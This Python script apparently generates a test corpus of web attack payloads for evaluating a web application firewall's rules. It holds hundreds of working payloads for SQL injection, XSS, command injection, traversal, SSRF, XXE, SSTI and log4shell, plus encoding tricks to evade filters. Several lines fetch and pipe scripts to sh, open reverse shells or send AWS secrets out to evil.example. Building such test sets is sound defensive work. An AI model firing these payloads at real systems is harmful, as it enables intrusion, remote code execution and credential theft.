#!/usr/bin/env python3
"""Generates corpus/attacks_wild.jsonl: an attack set written independently of the rules
(round 6), from the shapes of public payload lists and attack tools (sqlmap techniques and
tamper scripts, XSS filter-evasion cheat sheets, command-injection / traversal / SSRF /
SSTI / XXE / log4shell obfuscation lists). Each base payload is placed in a realistic field
and placement and emitted in one or two encodings; the mix of placements and encodings is
cycled deterministically. Not derived from the CRS regression corpus.
Deterministic: re-running gives the same file.
"""
import json, os, urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))

def pct(s):
    return urllib.parse.quote(s, safe="")

def enc(p, k):
    if k == "raw":
        return p
    if k == "url":
        return pct(p)
    if k == "double":
        return pct(pct(p))
    if k == "unicode":
        return "".join("%%u%04x" % ord(c) if c in "<>'\"/.;()=$|&" else c for c in p)
    if k == "html":
        return "".join("&#%d;" % ord(c) if c in "<>'\"()/:" else c for c in p)
    if k == "hexent":
        return "".join("&#x%x;" % ord(c) if c in "<>'\"()" else c for c in p)
    if k == "case":
        return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(p))
    if k == "jsonu":
        # JSON \u escapes of the punctuation (decoded by the JSON parser before inspection)
        return p
    raise ValueError(k)

PLACE = ["query", "json", "form", "header", "cookie", "xml", "path", "multipart"]
FIELDS = {
    "sqli": ["id", "user", "sort", "q", "order", "category"],
    "xss": ["comment", "name", "bio", "q", "title", "redirect"],
    "cmdi": ["host", "filename", "ip", "cmd", "target", "domain"],
    "traversal": ["file", "path", "template", "doc", "page", "download"],
    "rfi": ["page", "include", "template", "url", "module", "lang"],
    "ldap": ["user", "uid", "cn", "filter", "login", "group"],
    "nosql": ["username", "password", "filter", "where", "q", "id"],
    "xml": ["data", "doc", "payload", "body", "import", "xml"],
    "ssti": ["name", "greeting", "template", "msg", "subject", "title"],
    "ssrf": ["url", "callback", "webhook", "image_url", "feed", "target"],
    "crlf": ["redirect", "lang", "next", "name", "return", "ref"],
    "log4shell": ["username", "q", "search", "msg", "device", "ref"],
    "php": ["code", "cmd", "expr", "callback", "data", "input"],
}

# Encodings to cycle per category (plain payloads dominate, as in the wild).
ENC = {
    "default": ["raw", "url", "raw", "double", "case", "raw", "unicode", "raw", "html"],
}

B = {}
B["sqli"] = [
    "1' AND 1=1-- -", "1' ORDER BY 3-- -", "-1' UNION SELECT 1,2,3-- -",
    "1'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users#",
    "1' AND SLEEP(5)#", "1) AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ",
    "1;WAITFOR DELAY '0:0:5'--", "1' AND 1=CONVERT(int,@@version)--",
    "1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user()),0x7e))-- -",
    "1' AND UPDATEXML(1,CONCAT(0x7e,version()),1)-- -",
    "' OR 'a'='a", "admin'--", "1 AND 2>1 BETWEEN 1 AND 3",
    "1' AND ASCII(SUBSTRING((SELECT database()),1,1)) BETWEEN 96 AND 98-- ",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3", "1' uNiOn SeLeCt NuLl,NuLl-- -",
    "1%27%20AND%20CHAR(49)%3DCHAR(49)--", "1' AND pg_sleep(5)--",
    "1';SELECT pg_sleep(5)--", "1' || (SELECT CASE WHEN 1=1 THEN 1 ELSE 1/0 END)--",
    "' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
    "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT 1),0x71))s), 8446744073709551610, 8446744073709551610)))-- ",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)",
    "1' PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)-- ",
    "1'; EXEC xp_cmdshell('whoami')--", "1' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1--",
    "1' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))--",
    "' UNION ALL SELECT LOAD_FILE('/etc/passwd')-- ", "1' INTO OUTFILE '/var/www/shell.php'-- ",
    "1'\tOR\t1=1--", "1'\nOR\n1=1--", "1'%0bOR%0b1=1--", "1' OR 1 LIKE 1-- ",
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ",
    "1 AND 1=1 ORDER BY 1#", "x' AND email IS NULL; --", "1' OR true--",
    "1'||'1'='1", "-1 OR 3*2=6", "admin' or 1 in (select @@version)--",
    "1';DROP TABLE users--", "1' GROUP BY columnnames HAVING 1=1--",
]
B["xss"] = [
    "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\">", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"javas\tcript:alert(1)\">x</a>", "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>",
    "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><input type=submit>",
    "<isindex type=image src=1 onerror=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "<img src=x onerror=\"&#97;lert(1)\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=`x`onerror=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>", "<img/src/onerror=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">", "<base href=\"javascript:alert(1)//\">",
    "${alert(1)}</script><script>alert(1)</script>", "<x onclick=alert(1)>click",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
]
B["cmdi"] = [
    "127.0.0.1; id", "127.0.0.1 && whoami", "127.0.0.1 | cat /etc/passwd", "127.0.0.1 || uname -a",
    "`id`", "$(whoami)", "; cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd",
    "{cat,/etc/passwd}", ";{ls,-la,/}", "; c\\at /et\\c/pa\\sswd", "; c'a't /e't'c/passwd",
    "; c\"a\"t /etc/passwd", "127.0.0.1\nid", "127.0.0.1\r\nwhoami", "a%0Aid",
    "; /bin/cat /etc/shadow", "; wget http://evil.example/x.sh -O /tmp/x.sh",
    "; curl http://evil.example/s|sh", "| nc -e /bin/sh 10.0.0.1 4444",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'exec \"/bin/sh\"'", "; rm -rf /tmp/x", "& dir C:\\", "| type C:\\Windows\\win.ini",
    "& ping -n 3 127.0.0.1", "| powershell -enc SQBFAFgA", "; powershell.exe -c \"Get-Process\"",
    "& net user", "&& whoami /all", "| certutil -urlcache -split -f http://evil.example/a.exe",
    "$(sleep 5)", "`sleep 5`", "; sleep 5 #", "; /???/??t /???/p??s??",
    "; echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh", "a;${PATH:0:1}bin${PATH:0:1}id",
    "; ls$IFS-la", "x||ping -c 10 127.0.0.1||", "& set /a 1+1", "; who''ami",
]
B["traversal"] = [
    "../../../../etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini", "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
    "..;/..;/..;/etc/passwd", "/..;/admin/", "../../../../etc/passwd%00.png", "../../../etc/passwd\x00.jpg",
    "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/cmdline", "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "c:/boot.ini", "file:///etc/passwd", "..%5c..%5c..%5cwindows%5cwin.ini", "%2e%2e%5c%2e%2e%5cboot.ini",
    "..%255c..%255cwindows%255cwin.ini", ".../.../.../etc/passwd", "..././..././etc/passwd",
    "/var/www/../../etc/passwd", "....\\\\....\\\\etc\\\\passwd", "..%u2216..%u2216windows%u2216win.ini",
    "..%u2215..%u2215etc%u2215passwd", "%uff0e%uff0e/%uff0e%uff0e/etc/passwd", "../../../../var/log/apache2/access.log",
    "/proc/self/fd/2", "../../../../root/.ssh/id_rsa", "../../.env", "../WEB-INF/web.xml",
    "..%2F..%2F..%2F..%2Fusr%2Flocal%2Fetc%2Fphp.ini", "/.%2e/.%2e/.%2e/etc/passwd",
    "..\\/..\\/..\\/etc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "../../boot.ini%00",
    "\\\\..\\\\..\\\\etc\\\\passwd",
]
B["rfi"] = [
    "http://evil.example/shell.txt?", "https://evil.example/shell.php", "http://10.1.2.3/x.txt?",
    "//evil.example/shell.txt", "ftp://evil.example/shell.txt", "php://input", "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
    "data:text/plain,<?php phpinfo();?>", "expect://id", "zip://uploads/a.zip%23shell.php", "phar://uploads/a.jpg/shell.php",
    "http://evil.example/shell.txt%00", "hTTp://evil.example/c99.txt?", "\\\\evil.example\\share\\shell.php",
    "http://evil.example/shell.txt?.php", "https://pastebin.com/raw/abcd1234?", "php://filter/resource=/etc/passwd",
    "compress.zlib://http://evil.example/x", "glob:///var/www/*", "http:%2f%2fevil.example%2fshell.txt",
    "http://0x7f000001/shell.txt?", "file://evil.example/c$/shell.php", "ogg://evil.example/x",
    "ssh2.exec://user:pass@evil.example:22/id", "http://evil.example/r57.txt??", "jar:http://evil.example/x.jar!/",
    "php://filter/convert.iconv.UTF8.CSISO2022KR/resource=php://temp", "http://evil.example/shell.gif?cmd=id",
    "https://raw.githubusercontent.com/x/y/main/shell.php", "http://evil.example:8080/inc.php?",
    "ftp://anonymous:x@evil.example/inc.txt", "PHP://INPUT", "php://memory", "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "http://evil.example/x.txt#", "http://3232235777/s.txt?", "https://evil.example/x.inc", "http://[::1]/s.txt?",
]
B["ldap"] = [
    "*)(uid=*))(|(uid=*", "*)(|(password=*))", "admin)(&)", "admin)(|(objectClass=*))",
    "*)(objectClass=*", "*))%00", "admin*)((|userPassword=*)", "*)(cn=*))(|(cn=*",
    "x)(|(uid=admin)(uid=*))", "*()|&'", ")(cn=*)", "admin)(!(&(1=0)))", "*)(&(objectClass=user)(cn=*",
    "(&(uid=*)(userPassword=*))", "(|(uid=*)(cn=*))", "*)(mail=*", "jsmith)(|(uid=*",
    "*)(sn=*))(&(sn=*", "admin)(description=*", "*))(|(objectclass=*", "*)(|(objectclass=*)(uid=*))",
    "x*)(uid=*", "*)(userPassword=a*", "admin)(&(objectClass=*)", "*)(!(cn=x))", "*)(member=*",
    "*)(givenName=*)(|(givenName=*", "(uid=*)", "*)(telephoneNumber=*", "*)(|(memberOf=cn=admins*",
    "admin))(|(&(uid=admin", "*)(homeDirectory=*", "x)(objectCategory=person", "*)(pwdLastSet=*",
    "*)(ou=*", ")(|(uid=*))", "*)(dn=*", "*)%00", "admin)(!(objectClass=void))", "*)(gecos=*",
]
B["nosql"] = [
    '{"$ne": null}', '{"$ne": "x"}', '{"$gt": ""}', '{"$regex": ".*"}', '{"$regex": "^adm"}',
    '{"$where": "sleep(5000)"}', '{"$where": "this.password.match(/^a/)"}', '{"$exists": true}',
    '{"$in": ["admin","root"]}', '{"$nin": []}', '{"$or": [{}, {"a":"a"}]}', '{"$expr": {"$eq": [1,1]}}',
    "'; return true; var x='", "' || '1'=='1", "1; return this.password", "'; while(true){}; '",
    "admin' && this.password.match(/.*/)//", "true, $where: '1 == 1'", "{\"$function\": {\"body\": \"function(){return 1}\", \"args\": [], \"lang\": \"js\"}}",
    "[$ne]=1", "[$gt]=", "[$regex]=.*", "[$where]=1", "[$exists]=true", "[$nin][]=x",
    "db.users.find({})", "db.getCollection('users').drop()", "{\"$lookup\": {\"from\": \"users\"}}",
    "this.constructor.constructor('return process')()", "{\"username\": {\"$ne\": 1}}", "{\"$jsonSchema\": {}}",
    "'; sleep(5000); var x='", "a'; return db.version(); var b='", "{\"$text\": {\"$search\": \"x\"}}",
    "{\"$elemMatch\": {\"$ne\": 0}}", "function() { return true; }", "{\"$lt\": \"~\"}", "{\"$gte\": 0}",
    "mapReduce(function(){emit(1,1)})", "{\"$accumulator\": {\"init\": \"function(){}\"}}",
]
B["xml"] = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://evil.example/x">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]>',
    '<!DOCTYPE r [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY c SYSTEM \'http://evil.example/?%a;\'>">%b;]>',
    '<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd">', '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><r>&lol2;</r>',
    '<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">',
    '<!ENTITY xxe SYSTEM "expect://id">', '<!ENTITY xxe PUBLIC "-//x//y" "http://evil.example/x.dtd">',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts"/></foo>',
    '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>',
    '<xsl:value-of select="system-property(\'xsl:vendor\')"/>',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:stylesheet>',
    '<![CDATA[<script>alert(1)</script>]]>', '<!DOCTYPE x [<!ENTITY % d SYSTEM "jar:http://evil.example/x.zip!/x.dtd">%d;]>',
    '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg>&xxe;</svg>',
    '<!DOCTYPE a [<!ELEMENT a ANY><!ENTITY b SYSTEM "netdoc:///etc/passwd">]><a>&b;</a>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "gopher://evil.example:25/_x">]><a>&b;</a>',
    '<!DOCTYPE a [<!ENTITY % p1 SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE data [<!ENTITY file SYSTEM "file:///c:/windows/win.ini">]><data>&file;</data>',
    '<!doctype foo [<!entity xxe system "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<soap:Body><foo><![CDATA[<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>]]></foo></soap:Body>',
    '<!DOCTYPE x [ <!ENTITY % ext SYSTEM "http://10.0.0.1/ev.dtd" > %ext; ]>',
    '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE foo+AD4-',
]
B["ssti"] = [
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}", "{{['cat /etc/passwd']|map('system')|join}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "<%= system('id') %>", "<%= `id` %>", "<%= File.open('/etc/passwd').read %>",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "[[${7*7}]]", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{{ ''|attr('__class__') }}", "{php}echo `id`;{/php}", "{system('id')}",
    "@(1+2)", "@{ var x = System.IO.File.ReadAllText(\"/etc/passwd\"); }",
    "#{T(java.lang.System).getenv()}", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "${{7*7}}", "{{= 7*7}}", "{{dump(app)}}", "{{app.request.server.all|join(',')}}", "%{7*7}",
    "${applicationScope}", "{{range.constructor(\"return global.process\")()}}",
]
B["ssrf"] = [
    "http://127.0.0.1/admin", "http://localhost:8080/", "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/", "http://2130706433/", "http://0x7f000001/", "http://017700000001/",
    "http://0177.0.0.1/", "http://0x7f.0x0.0x0.0x1/", "http://127.1/", "http://0/", "http://[::1]/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://[::ffff:a9fe:a9fe]/", "http://localtest.me/", "http://127.0.0.1.nip.io/",
    "http://spoofed.burpcollaborator.net/", "http://7f000001.1time.rebind.network/", "http://evil.example@127.0.0.1/",
    "http://127.0.0.1#@evil.example/", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd", "http://169.254.169.254.xip.io/", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://instance-data/latest/meta-data/", "http://192.168.0.1/", "http://10.0.0.1:2375/containers/json",
    "http://kubernetes.default.svc/api/v1/secrets", "http://127.0.0.1:2379/v2/keys", "http://0.0.0.0:22/",
    "http://①②⑦.⓪.⓪.①/", "http://169.254.169.254%2flatest%2fmeta-data", "ldap://127.0.0.1:389/",
    "tftp://evil.example:69/x", "http://2852039166/latest/meta-data/", "http://[::]:80/", "http://metadata/computeMetadata/v1/",
]
B["crlf"] = [
    "%0d%0aSet-Cookie:%20session=evil", "/%0d%0aLocation:%20http://evil.example", "x\r\nSet-Cookie: a=b",
    "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "%0aSet-Cookie:crlf=injection", "%0dSet-Cookie:crlf=1",
    "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", "%u000aSet-Cookie:x=1", "%250d%250aSet-Cookie:x=1", "\r\nX-Injected: 1",
    "/path\r\n\r\n<script>alert(1)</script>", "%0d%0aAccess-Control-Allow-Origin:%20*", "%0d%0aLocation:javascript:alert(1)",
    "%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<html>", "foo%0d%0a%09Set-Cookie:x=y", "\nLocation: http://evil.example",
    "%0d%0aX-XSS-Protection:0", "%23%0dSet-Cookie:x=1", "a%0d%0a%20Set-Cookie:x=1", "%0d%0aRefresh:0;url=http://evil.example",
    "\r\nContent-Security-Policy: none", "%0d%0aCache-Control: public, max-age=99999", "%5cr%5cnSet-Cookie:x=1",
    "test\r\nX-Forwarded-For: 127.0.0.1", "%0d%0aSet-Cookie:JSESSIONID=attacker", "\r\n\r\nHTTP/1.1 200 OK\r\n",
    "%c4%8d%c4%8aSet-Cookie:x=1", "&#13;&#10;Set-Cookie:x=1", "%0d%0aLink:%20<http://evil.example>;rel=preload",
    "%0d%0aStrict-Transport-Security:max-age=0", "%0d%0aContent-Disposition:%20attachment", "%0aX-Frame-Options:ALLOW",
    "\u2028Set-Cookie: x=1", "%0d%0aVary:%20*", "%0A%0DSet-Cookie:x=1", "%0d%0aTransfer-Encoding:chunked",
    "%0d%0aAuthorization:%20Basic%20YTpi", "%0d%0a%0d%0a<svg onload=alert(1)>", "\rLocation: //evil.example",
    "%0d%0aX-Accel-Redirect:/etc/passwd",
]
B["log4shell"] = [
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example/a}", "${jndi:dns://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}", "${${upper:j}${upper:n}di:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/a}",
    "${j${k8s:k5:-ND}i:ldap://evil.example/a}", "${${date:'j'}${date:'n'}di:ldap://evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "${${sys:foo:-j}ndi:ldaps://evil.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}", "${jndi:ldap://127.0.0.1#evil.example/a}",
    "${jndi:iiop://evil.example/a}", "${jndi:corba://evil.example/a}", "${jndi:nds://evil.example/a}",
    "${jndi:http://evil.example/a}", "${${lower:jndi}:${lower:rmi}://evil.example/a}",
    "${${::-j}ndi:rmi://evil.example/a}", "${j${::-n}di:ldap://evil.example/a}", "${jn${env::-}di:ldap://evil.example/a}",
    "${jndi:ldap://evil.example:1389/Basic/Command/Base64/aWQ=}", "${${lower:${lower:jndi}}:ldap://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${java:version}", "${hostName}", "${ctx:loginId}",
    "${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}", "${main:0}", "${bundle:application:spring.datasource.password}",
    "${jndi:ldap://evil.example/${sys:user.name}}", "%24%7Bjndi:ldap://evil.example/a%7D", "$%7Bjndi:ldap://evil.example/a%7D",
    "${jnd${upper:ı}:ldap://evil.example/a}", "${j${lower:N}d${lower:I}:ldap://evil.example/a}",
    "${${::-$}{jndi:ldap://evil.example/a}}", "${jndi:ldap:/evil.example/a}", "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
    "${${lower:${upper:j}}ndi:ldap://evil.example/a}",
]
B["php"] = [
    "<?php system($_GET['c']); ?>", "<?= `id` ?>", "<?php echo shell_exec('id'); ?>", "phpinfo();", "system('id');",
    "passthru('cat /etc/passwd');", "exec('whoami');", "shell_exec('ls -la');", "eval($_POST['x']);",
    "assert($_REQUEST['c']);", "preg_replace('/.*/e','system(\"id\")','')", "create_function('','system(\"id\");')",
    "call_user_func('system','id')", "${@system(id)}", "${@phpinfo()}", "file_put_contents('s.php','<?php eval($_POST[1]);')",
    "include($_GET['f']);", "base64_decode('c3lzdGVtKCJpZCIpOw==')", "eval(base64_decode('cGhwaW5mbygpOw=='));",
    "$_GET['a']($_GET['b']);", "array_map('system',array('id'));", "usort($a,'system');",
    "O:8:\"stdClass\":1:{s:4:\"test\";s:3:\"abc\";}", "a:2:{i:0;s:4:\"test\";i:1;O:4:\"Evil\":0:{}}",
    "__import__('os').system('id')", "eval(compile('import os;os.system(\"id\")','a','exec'))",
    "require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('id')",
    "Runtime.getRuntime().exec(\"id\")", "new java.lang.ProcessBuilder(\"id\").start()",
    "`id`;", "popen('id','r');", "proc_open('id',$d,$p);", "pcntl_exec('/bin/sh');",
    "highlight_file('/etc/passwd');", "show_source('index.php');", "fopen('/etc/passwd','r');",
    "$a='sys'.'tem';$a('id');", "(system)('id');", "chr(115).chr(121).chr(115)",
    "<?php $c=$_GET[0];@eval($c);", "str_rot13('flfgrz')('id');",
]

# Fields where a payload is realistically sent per category (placement cycle offsets).
def rows():
    out = []
    encs = ENC["default"]
    for ci, cat in enumerate(B):
        fields = FIELDS[cat]
        for i, p in enumerate(B[cat]):
            placement = PLACE[(i + ci) % len(PLACE)]
            k = encs[(i * 7 + ci) % len(encs)]
            # Payloads that already carry their own percent encoding stay as written.
            if "%" in p and k in ("url", "double", "unicode"):
                k = "raw"
            # Percent-encoded paths are decoded by the router only once; keep path rows plain or once-encoded.
            payload = enc(p, k)
            out.append({"category": cat, "placement": placement, "field": fields[i % len(fields)],
                        "encoding": k, "payload": payload})
            # A second copy in JSON with \\u escapes of letters (JSON parsers decode them).
            if i % 5 == 0 or cat == "xml":
                esc = "".join("\\u%04x" % ord(c) if (c in "<>'\"()$&{}" or (c.isalpha() and j % 3 == 0)) else
                              ("\\\\" if c == "\\" else c) for j, c in enumerate(p))
                esc = esc.replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t").replace("\x00", "\\u0000")
                out.append({"category": cat, "placement": "json_raw", "field": fields[(i + 1) % len(fields)],
                            "encoding": "json_u", "payload": '{"%s": "%s"}' % (fields[(i + 1) % len(fields)], esc)})
    return out

if __name__ == "__main__":
    path = os.path.join(HERE, "attacks_wild.jsonl")
    with open(path, "w") as f:
        for r in rows():
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(path)
